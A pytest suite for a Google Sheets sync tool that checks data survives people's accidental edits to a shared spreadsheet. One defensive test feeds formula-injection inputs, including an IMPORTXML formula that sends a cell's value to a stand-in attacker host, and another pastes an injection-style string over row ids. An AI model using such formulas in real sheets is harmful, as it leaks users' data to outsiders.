"""What people do to a shared sheet that nobody meant them to do: nothing is lost each time, and somebody is told."""

import pytest
from sync.google_people import google_people, journaled

from tcsheets.errors import StoreError, TryAgainError
from tcsheets.stores.google_doctor import examined
from tcsheets.stores.google_sheet import reading_of
from tcsheets.stores.google_snapshot import FIELDS, MARKER_ID, sheet_id_of, snapshot_of
from tcsheets.sync.google_setup import set_up
from tcsheets.sync.google_tables import lacking

START = (("C-1", "new"), ("C-2", "new"), ("C-3", "new"))


@pytest.fixture
def office():
    (kim, lee), sheet = google_people("kim", "lee")
    for case, status in START:
        kim.add(case, status)
    kim.sync()
    lee.sync()
    return kim, lee, sheet


def settle(kim, lee, rounds=2):
    for _ in range(rounds):
        reports = [kim.sync(), lee.sync(), kim.sync_sheet()]
    return [" ".join(each.notes) for each in reports]


def said(person):
    return {(op.row_id, op.kind, op.field, op.new) for op in journaled(person)[1]}


def column(sheet, title):
    at = sheet.header.index(title)
    return {"sheetId": sheet.tab().sheet_id, "dimension": "COLUMNS", "startIndex": at, "endIndex": at + 1}


def all_alike(kim, lee, sheet):
    assert kim.shown() == lee.shown() == sheet.shown()
    return sheet.shown()


def test_a_renamed_header_is_told_and_filled_again_when_it_is_named_so_again(office):
    kim, lee, sheet = office
    before = said(kim)
    sheet.type("Case", "Note", "Remarks")  # the header row is the one whose Case says Case
    assert all("no column Note" in each for each in settle(kim, lee))
    assert said(kim) == before
    kim.change("C-1", "Note", "kim's")
    settle(kim, lee)
    assert lee.value("C-1", "Note") == "kim's"
    sheet.type("Case", "Remarks", "Note")
    assert settle(kim, lee) == ["", "", ""]
    assert all_alike(kim, lee, sheet)[0][2] == "kim's"


def test_a_deleted_column_deletes_nothing_elsewhere_and_comes_back_with_its_values(office):
    kim, lee, sheet = office
    kim.change("C-1", "Note", "kim's")
    settle(kim, lee)
    before = said(kim)
    sheet.person.request({"deleteDimension": {"range": column(sheet, "Note")}})
    assert all("no column Note" in each for each in settle(kim, lee))
    assert said(kim) == before
    assert kim.value("C-1", "Note") == lee.value("C-1", "Note") == "kim's"
    sheet.person.request({"insertDimension": {"range": column(sheet, "Sync"), "inheritFromBefore": True}})
    sheet.person.type("Calls!D1", "Note")
    settle(kim, lee)
    assert all_alike(kim, lee, sheet)[0][2] == "kim's"


def test_without_its_ids_a_list_is_left_alone_and_the_rest_goes_on(office):
    kim, lee, sheet = office
    before = said(kim)
    sheet.person.request({"deleteDimension": {"range": column(sheet, "row_id")}})
    kim.change("C-1", "Note", "kim's")
    assert all("has lost the hidden column row_id" in each for each in settle(kim, lee))
    assert lee.value("C-1", "Note") == "kim's"
    assert len(said(kim)) == len(before) + 1
    found = examined("google:x", lambda where: kim.calls(), lambda snapshot: lacking(snapshot, kim.definitions, ()))
    assert [each.what for each in found if not each.is_well] == ["tabs"]


def test_a_duplicated_tab_is_a_persons_own(office):
    kim, lee, sheet = office
    before = said(kim)
    copy = {"sourceSheetId": sheet.tab().sheet_id, "newSheetName": "Copy of Calls"}
    sheet.person.request({"duplicateSheet": copy})
    sheet.person.type("Copy of Calls!C2", "typed in the copy")
    settle(kim, lee)
    assert said(kim) == before


def test_hidden_rows_are_rows(office):
    kim, lee, sheet = office
    rows = {"sheetId": sheet.tab().sheet_id, "dimension": "ROWS", "startIndex": 1, "endIndex": 3}
    sheet.person.request(
        {"updateDimensionProperties": {"range": rows, "properties": {"hiddenByUser": True}, "fields": "hiddenByUser"}}
    )
    before = said(kim)
    settle(kim, lee)
    assert said(kim) == before
    kim.change("C-1", "Note", "kim's")
    settle(kim, lee)
    assert all_alike(kim, lee, sheet)[0][2] == "kim's"
    assert sheet.tab().pixels("ROWS", 1)["hiddenByUser"]


def test_a_row_pasted_over_another_is_a_new_row_and_the_other_is_gone_with_a_tombstone(office):
    kim, lee, sheet = office
    place = {"sheetId": sheet.tab().sheet_id}
    one, two = ({**place, "startRowIndex": at, "endRowIndex": at + 1} for at in (1, 2))
    sheet.person.request({"copyPaste": {"source": one, "destination": two, "pasteType": "PASTE_VALUES"}})
    assert "rows that were copied are new rows" in " ".join(kim.sync().notes)
    settle(kim, lee)
    assert [row[0] for row in all_alike(kim, lee, sheet)] == ["C-1", "C-1", "C-3"]
    assert [op.kind for op in journaled(kim)[1] if op.kind == "delete"] == ["delete"]


@pytest.mark.parametrize("pasted", ["oops", "not an id! =x", "C-1", "'; drop", "x" * 100])
def test_words_pasted_over_ids_lose_no_row_and_harm_no_journal(office, pasted):
    kim, lee, sheet = office
    for row in (2, 3, 4):
        sheet.person.type(f"Calls!A{row}", pasted)
    settle(kim, lee)
    assert [row[0] for row in all_alike(kim, lee, sheet)] == ["C-1", "C-2", "C-3"]
    assert reading_of(snapshot_of(kim.calls().read(FIELDS))).problems == ()


def test_deleted_journals_are_put_back_by_their_writers(office):
    kim, lee, sheet = office
    lee.change("C-1", "Note", "lee's")
    lee.sync()
    kim.sync()
    before, tabs = said(kim), list(sheet.google.book(sheet.spreadsheet).sheets)
    for each in tabs:
        if each.title.startswith("_tcsheets journal"):
            sheet.person.request({"deleteSheet": {"sheetId": each.sheet_id}})
    first = kim.sync()
    assert first.put_back == 3
    assert "the store shows less than this workbook has seen" in " ".join(first.notes)
    assert lee.sync().put_back == 1
    settle(kim, lee)
    assert said(kim) == before
    assert all_alike(kim, lee, sheet)[0][2] == "lee's"


def test_without_its_marker_the_sheet_is_no_store_and_nothing_is_written(office):
    kim, _, sheet = office
    sheet.person.request({"deleteSheet": {"sheetId": MARKER_ID}})
    kim.change("C-1", "Note", "kim's")
    before = len(sheet.google.log)
    for sync in (kim.sync, kim.sync_sheet):
        with pytest.raises(StoreError, match="Version history"):
            sync()
    assert {each[0] for each in sheet.google.log[before:]} == {"GET"}
    assert kim.value("C-1", "Note") == "kim's"


def test_the_copy_from_before_a_write_is_made_again_where_it_was_deleted(office):
    kim, lee, sheet = office
    sheet.person.request({"deleteSheet": {"sheetId": sheet_id_of("before", "calls")}})
    kim.change("C-1", "Note", "kim's")
    settle(kim, lee)
    assert all_alike(kim, lee, sheet)[0][2] == "kim's"


def test_a_deleted_list_deletes_no_row_and_set_up_makes_it_anew(office):
    kim, lee, sheet = office
    before = said(kim)
    sheet.person.request({"deleteSheet": {"sheetId": sheet_id_of("list", "calls")}})
    settled = [kim.sync(), lee.sync()]
    assert all(each.sent == 0 for each in settled)
    with pytest.raises(StoreError, match="tcsheets google setup"):
        kim.sync_sheet()
    assert set_up(kim.calls(), kim.definitions, kim.fresh, 30) == ["Calls"]
    settle(kim, lee)
    assert [row[0] for row in all_alike(kim, lee, sheet)] == ["C-1", "C-2", "C-3"]
    assert said(kim) == before


def test_a_copied_spreadsheet_that_is_worked_in_as_well_loses_nothing(office):
    kim, lee, sheet = office
    google = sheet.google
    twin = google.book(sheet.spreadsheet).copy()
    twin.book_id = lee.spreadsheet = google.create("Copy of Practice board")
    google.world.keep(twin)
    kim.change("C-1", "Note", "kim's")
    lee.change("C-1", "Note", "lee's")
    for each in (kim, lee, kim, lee):
        each.sync()
    lee.spreadsheet = sheet.spreadsheet
    settle(kim, lee)
    assert {"kim's", "lee's"} <= {new for *_, new in said(kim)}
    assert "two versions of Note" in all_alike(kim, lee, sheet)[0][3]


def test_a_viewers_account_reads_writes_nothing_and_says_what_to_do(office):
    kim, lee, sheet = office
    sheet.type("C-2", "Note", "typed")
    sheet.google.only_reading()
    kim.change("C-1", "Note", "kim's")
    before = sheet.google.book(sheet.spreadsheet)
    with pytest.raises(StoreError, match=r"share it with helper@practice\.example as an editor"):
        kim.sync()
    assert sheet.google.book(sheet.spreadsheet) is before
    sheet.google.viewers.clear()
    settle(kim, lee)
    assert [row[2] for row in all_alike(kim, lee, sheet)] == ["kim's", "typed", ""]


def fill(sheet, spare):
    """Add a tab that leaves room for so many cells."""
    held = sum(each.height * each.width for each in sheet.google.book(sheet.spreadsheet).sheets)
    grid = {"rowCount": 10_000_000 - held - spare, "columnCount": 1}
    sheet.person.request({"addSheet": {"properties": {"sheetId": 77, "title": "Full", "gridProperties": grid}}})


def test_a_spreadsheet_that_is_full_is_told_and_what_is_new_waits_in_the_workbook(office):
    kim, lee, sheet = office
    fill(sheet, 100)
    kim.change("C-1", "Note", "kim's")
    kim.sync()
    for number in range(300):  # more than the spare rows of a journal
        kim.add(f"D-{number}", "new")
    report = kim.sync()
    assert (report.sent, report.pending) == (0, 300)
    assert "10000000 cells" in " ".join(report.notes)
    assert [each.what for each in examined("google:x", lambda where: kim.calls()) if not each.is_well] == ["room"]
    sheet.person.request({"deleteSheet": {"sheetId": 77}})
    settle(kim, lee)
    assert len(all_alike(kim, lee, sheet)) == 303


def test_a_text_that_no_workbook_can_show_is_kept_and_told(office):
    kim, lee, sheet = office
    sheet.type("C-1", "Note", "z" * 40_000)
    assert all("no workbook can show (1)" in each for each in settle(kim, lee)[:2])
    assert len(sheet.rows()[0]["Note"]) == 40_000
    assert kim.value("C-1", "Note") == ""
    sheet.type("C-1", "Note", "short")
    settle(kim, lee)
    assert all_alike(kim, lee, sheet)[0][2] == "short"


def test_the_longest_text_of_a_workbook_fits(office):
    kim, lee, sheet = office
    kim.change("C-1", "Note", "y" * 32_767)
    settle(kim, lee)
    assert len(all_alike(kim, lee, sheet)[0][2]) == 32_767


@pytest.mark.parametrize("text", ['=IMPORTXML("http://evil.example/?"&A1,"//a")', "=A1", "@x", "-1+1", "+1", "\t=1"])
def test_formula_like_text_from_elsewhere_is_no_formula_in_any_tab(office, text):
    kim, lee, sheet = office
    kim.change("C-1", "Note", text)
    settle(kim, lee)
    kim.change("C-1", "Note", text + "2")
    sheet.type("C-1", "Note", "other")  # so that it stands among the conflicts too
    settle(kim, lee)
    tabs = [each for each in sheet.google.book(sheet.spreadsheet).sheets if each.title != "Figures"]
    cells = [cell for tab in tabs for row in tab.rows.values() for cell in row.values()]
    assert not any("formulaValue" in cell.get("userEnteredValue", {}) for cell in cells)
    assert any(text.strip() in line for line in sheet.lines("Conflicts")[1])


def test_a_sync_that_is_always_second_gives_up_in_words_and_loses_nothing(office):
    kim, lee, sheet = office
    kim.change("C-1", "Note", "kim's")
    count = iter(range(1000))

    def first(google, call, path):
        if call == "spreadsheets.batchUpdate" and not first.busy:
            first.busy = True
            lee.change("C-3", "Note", f"lee {next(count)}")
            lee.sync()
            first.busy = False

    first.busy = False
    sheet.google.hooks.append(first)
    try:
        kim.sync()
    except TryAgainError as error:
        assert "try again" in str(error)
    sheet.google.hooks.clear()
    settle(kim, lee)
    assert all_alike(kim, lee, sheet)[0][2] == "kim's"


@pytest.fixture
def longer(office):
    kim, lee, sheet = office
    for number in range(4, 9):
        kim.add(f"C-{number}", f"status {number}", f"note {number}")
    settle(kim, lee)
    return kim, lee, sheet


def test_an_emptied_list_is_left_as_it_is_and_asked_about(longer):
    kim, _, sheet = longer
    before = said(kim)
    sheet.person.delete_row("Calls", 2, 8)
    assert "--max-delete 8" in " ".join(kim.sync().notes)
    assert said(kim) == before


def test_rows_sorted_without_their_ids_are_left_as_they_are_and_asked_about(longer):
    kim, _, sheet = longer
    before = said(kim)
    place = {"sheetId": sheet.tab().sheet_id, "startRowIndex": 1, "endRowIndex": 9, "startColumnIndex": 1}
    order = [{"dimensionIndex": 1, "sortOrder": "DESCENDING"}]
    sheet.person.request({"sortRange": {"range": {**place, "endColumnIndex": 4}, "sortSpecs": order}})
    assert "sorted without their hidden column row_id" in " ".join(kim.sync().notes)
    assert said(kim) == before
